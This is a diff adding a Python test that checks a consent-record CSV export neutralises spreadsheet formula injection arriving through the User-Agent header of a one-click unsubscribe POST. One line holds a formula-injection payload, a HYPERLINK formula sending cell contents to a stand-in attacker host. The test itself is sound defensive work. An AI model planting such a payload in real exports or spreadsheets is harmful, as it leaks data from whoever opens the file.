@@ -526,6 +526,24 @@ def test_every_confirmed_change_is_recorded_once_with_its_source(linked) -> None
     assert later.output.strip() == ",".join(csv_rows[0].keys())  # the header alone
 
 
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(linked) -> None:
+    """A one-click POST needs no cookie, so anyone holding the link chooses the User-Agent
+    the record keeps: the CSV shows it as text, the JSON as it came."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    fresh_client(linked).post(
+        one_click_path(7), data={"List-Unsubscribe": "One-Click"}, headers={"User-Agent": formula}
+    )
+    cli = linked.app.test_cli_runner()
+    [row] = list(csv.DictReader(io.StringIO(cli.invoke(args=["consent", "export"]).output)))
+    assert row["user_agent"] == "'" + formula
+    assert (
+        json.loads(cli.invoke(args=["consent", "export", "--format", "json"]).output)[0][
+            "user_agent"
+        ]
+        == formula
+    )
+
+
 def test_the_page_shows_the_last_ten_changes(web) -> None:
     web.sign_in()
     for on in (True, False) * 6:
